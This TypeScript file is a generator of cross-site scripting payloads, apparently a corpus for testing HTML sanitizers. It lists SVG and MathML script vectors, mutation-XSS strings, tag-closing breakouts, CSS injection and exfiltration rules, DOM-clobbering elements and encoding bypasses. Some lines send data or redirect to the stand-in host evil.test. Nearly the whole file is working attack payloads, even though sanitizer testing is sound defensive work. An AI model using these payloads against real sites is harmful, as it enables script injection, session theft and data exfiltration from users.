import type { Writer } from './payloads-addresses.ts'

const svg = 'http://www.w3.org/2000/svg'
const xlink = 'http://www.w3.org/1999/xlink'

/** Drawings and formulas are documents of their own, with scripts, links and animations. */
export const pictures: Writer = (run) => [
  `<svg onload="${run}">`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><script xlink:href="data:,${run}" /></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><a href="javascript:${run}"><rect width=99 height=99 /></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}" /><text y=20>x</text></a></svg>`,
  `<svg><a><set attributeName=xlink:href to="javascript:${run}" /><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><animate attributeName=x dur=1ms onend="${run}" />`,
  `<svg><animateTransform onbegin=${run} attributeName=transform>`,
  `<svg><set onbegin="${run}" attributeName=x to=1>`,
  `<svg><discard onbegin=${run}>`,
  `<svg><image href=x onerror=${run}>`,
  `<svg><image xlink:href="data:image/svg+xml,<svg xmlns='${svg}' onload='${run}'/>">`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='${svg}'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<svg><style>@import "https://evil.test/x.css";</style></svg>`,
  `<svg><style><img src="</style><img src=x onerror=${run}>">`,
  `<svg><title><style><img src="</style><img src=x onerror=${run}>"></title></svg>`,
  `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  `<svg><p><style><g title="</style><img src=x onerror=${run}>">`,
  `<svg xmlns="${svg}" xmlns:xlink="${xlink}"><a xlink:href="java&#9;script:${run}"><circle r=99 /></a></svg>`,
  `<svg><handler type="text/javascript" ev:event="load">${run}</handler></svg>`,
  `<svg><view onfocus=${run} tabindex=0 autofocus>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><mrow xlink:href="javascript:${run}">x</mrow></math>`,
  `<math><maction actiontype="statusline#https://evil.test" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${run}</script></annotation-xml></math>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
]

/** Harmless when they are parsed first, but not when the result is serialized and parsed again. */
export const mutations: Writer = (run) => {
  const hidden = `<img src=x onerror=${run}>`
  return [
    `<noscript><style></noscript>${hidden}`,
    `<noscript><a title="</noscript>${hidden}">x</a></noscript>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<math><mtext><table><mglyph><style><math>${hidden}</math></style></mglyph></table></mtext></math>`,
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${hidden}"></style></h1>`,
    `<form><math><mtext></form><form><mglyph><style></math>${hidden}`,
    `<math><mtext></p><mglyph><style><!--</style>${hidden}-->`,
    `<svg></p><style><a id="</style>${hidden}">`,
    `<svg><style><!--</style>${hidden}--></svg>`,
    `<svg><desc><svg><style><a title="</style>${hidden}"></style></svg></desc></svg>`,
    `<svg><title><a id="</title>${hidden}"></a></title></svg>`,
    `<svg></br><style><a title="</style>${hidden}">`,
    `<svg><mtext><style><path id="</style>${hidden}">`,
    `<table><td><svg><style></table>${hidden}</style>`,
    `<select><style></select>${hidden}</style>`,
    `<select><template><style><!--</style><a rel="--></style></template></select>${hidden}">`,
    `<select><noembed></select>${hidden}</noembed>`,
    `<textarea><style></textarea>${hidden}</style>`,
    `<title><a title="</title>${hidden}">`,
    `<xmp><p title="</xmp>${hidden}">`,
    `<noembed><img title="</noembed>${hidden}"></noembed>`,
    `<noframes><style></noframes>${hidden}</style></noframes>`,
    `<iframe><img title="</iframe>${hidden}"></iframe>`,
    `<plaintext>${hidden}`,
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    `<pre>&lt;img src=x onerror=${run}&gt;</pre>`,
    `<template><style></template>${hidden}</style>`,
    `<option><style></option></select>${hidden}</style>`,
    `<p><svg><p><style><a title="</style>${hidden}">`,
    `<div><!--><img src=x onerror=${run}>--></div>`,
    `<!--><img src=x onerror=${run}>-->`,
    `<!---><img src=x onerror=${run}>-->`,
    `<!-- --!><img src=x onerror=${run}>-->`,
    `<!-- <!-- --> <img src=x onerror=${run}> -->`,
    `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<![><img src=x onerror=${run}>]>`,
    `<?xml version="1.0"?><img src=x onerror=${run}>`,
    `<?php echo "x" ?><img src=x onerror=${run}>`,
    `<%00img src=x onerror=${run}>`,
    `</p <img src=x onerror=${run}>`,
    `</ ><img src=x onerror=${run}>`,
    `<a <img src=x onerror=${run}>`,
    `<img title="a<b" src=x onerror=${run}>`,
    `<img alt="\`><script>${run}</script>"title="\`">`,
    `<img """><script>${run}</script>">`,
    `<img src="x\` \`<script>${run}</script>"\` \`>`,
    `<IMG SRC=x ONERROR=${run} `,
  ]
}

/** Ends the elements that a careless template has opened around the text. */
export const endings: Writer = (run) => {
  const opened = [
    'title',
    'textarea',
    'style',
    'script',
    'noscript',
    'template',
    'iframe',
    'select',
    'xmp',
    'svg',
    'code',
  ]
  const closing = [
    ...opened.map((name) => `</${name}>`),
    '-->',
    ']]>',
    '</code></pre>',
    '</a></li></ul>',
    '</p></article>',
  ]
  const json = [`"}</script><script>${run}</script>`, `\\u003c/script>\\u003cscript>${run}`, `"-${run}-"`, `'-${run}-'`]
  return [
    ...closing.flatMap((close) => [`${close}<script>${run}</script>`, `${close}<svg onload=${run}>`]),
    ...json,
    `\u2028${run}//`,
    `*/${run}/*`,
    `;${run};//`,
  ]
}

/** What a style could do: load, run (this was once possible), cover the page, read what is on it. */
export const styles: Writer = (run) => [
  `<p style="background:url(javascript:${run})">x</p>`,
  `<p style="background-image:url(https://evil.test/x.png)">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="behavior:url(https://evil.test/x.htc)">x</p>`,
  `<p style="-moz-binding:url(https://evil.test/x.xml#x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:#fff">x</p>`,
  `<p style="x:\\65xpression(${run})">x</p>`,
  `<p style=animation-name:x onanimationend=${run}>x</p>`,
  `<p style='font-family:"</style><script>${run}</script>"'>x</p>`,
  `<style>*{background:url(https://evil.test/style)}</style>`,
  `<style>@import url(https://evil.test/import.css);</style>`,
  `<style>@font-face{font-family:x;src:url(https://evil.test/x.woff2)}body{font-family:x!important}</style>`,
  `<style>@keyframes x{}*{animation:x 1ms}</style><b onanimationstart=${run}>x</b>`,
  `<style>input[value^=a]{background:url(https://evil.test/a)}</style>`,
  `<style>a{position:fixed;inset:0}</style><a href="https://evil.test/">x</a>`,
  `<style></style><script>${run}</script>`,
  `<style/onload=${run}>`,
  `<link rel=stylesheet href="data:text/css,*{x:url(https://evil.test/data)}">`,
  `<div class="scrim toast skip nav" data-open id=nav>x</div>`,
  `<div class="js-only copy" data-copy="x" data-copy-page="https://evil.test/copy">x</div>`,
  `<div role=tablist data-sync=x><span role=tab aria-controls=x>x</span></div>`,
  `<dialog class=search open data-answers="https://evil.test/answers"><input></dialog>`,
  `<figure data-diagram><pre><code>graph LR; A-->B</code></pre></figure>`,
  `<meta name=diagrams content="https://evil.test/frame">`,
  `<span class="on-dark">x</span><span class=sr>x</span>`,
  `<font color="red;background:url(https://evil.test/font)" size="expression(${run})">x</font>`,
]

/** Elements with names that replace what scripts rely on. */
export const clobbering: Writer = (run) => {
  const names =
    'body head documentElement forms cookie location currentScript getElementById querySelector querySelectorAll createElement ' +
    'addEventListener defaultView dataset localStorage sessionStorage fetch open self top parent name toast nav dialog hits'
  return [
    ...names
      .split(' ')
      .flatMap((name) => [`<img name=${name} id=${name}>`, `<form id=${name}><input name=${name}></form>`]),
    `<a id=x></a><a id=x name=y href="javascript:${run}"></a>`,
    `<form name=document><input name=body><input name=cookie></form>`,
    `<form id=x><output id=y>${run}</output></form>`,
    `<iframe name=self srcdoc="<a id=top></a>"></iframe>`,
    `<object id=document name=document></object>`,
    `<embed name=getElementById>`,
    `<p id=content></p><p id=hits></p><p id=nav></p>`,
    `<p id=__proto__></p><p id=constructor></p><p id=toString></p>`,
  ]
}

/** Other spellings of the same characters. */
export const encodings: Writer = (run) => [
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `&#x3c;img src=x onerror=${run}&#x3e;`,
  `&#x000003Cimg src=x onerror=${run}>`,
  `\\x3cimg src=x onerror=${run}\\x3e`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cimg%20src=x%20onerror=${run}%3E`,
  `%253Cimg%2520src=x%2520onerror=${run}%253E`,
  `\uff1cimg src=x onerror=${run}\uff1e`,
  `\u2039img src=x onerror=${run}\u203a`,
  `+ADw-img src=x onerror=${run}+AD4-`,
  `\u00bcimg src=x onerror=${run}\u00be`,
  `<\u0130mg src=x onerror=${run}>`,
  `<\u017fcript>${run}</\u017fcript>`,
  `<img\u000bsrc=x\u000bonerror=${run}>`,
  `<img\u000csrc=x\u000conerror=${run}>`,
  `<img\u00a0src=x\u00a0onerror=${run}>`,
  `<img src=x on\u0000error=${run}>`,
  `<img src=x \u202eonerror=${run}>`,
  `<img src=x onerror\u2028=${run}>`,
  `<img src=x onerror=\\u0066ired(0);${run}>`,
  `<img src=x onerror=window['fir'+'ed'](0);${run}>`,
  `<img src=x onerror=top[/fired/.source](0);${run}>`,
  `<img src=x onerror=eval('fir'+'ed(0)');${run}>`,
  `<img src=x onerror=import('data:text/javascript,${run}')>`,
  `<img src=x onerror=fetch('https://evil.test/');${run}>`,
  `<img src=x onerror=location='https://evil.test/?'+${run}>`,
  `<img src=x onerror=alert(1);${run}>`,
  `<img src=x onerror=document.write('<script>${run}</'+'script>')>`,
]
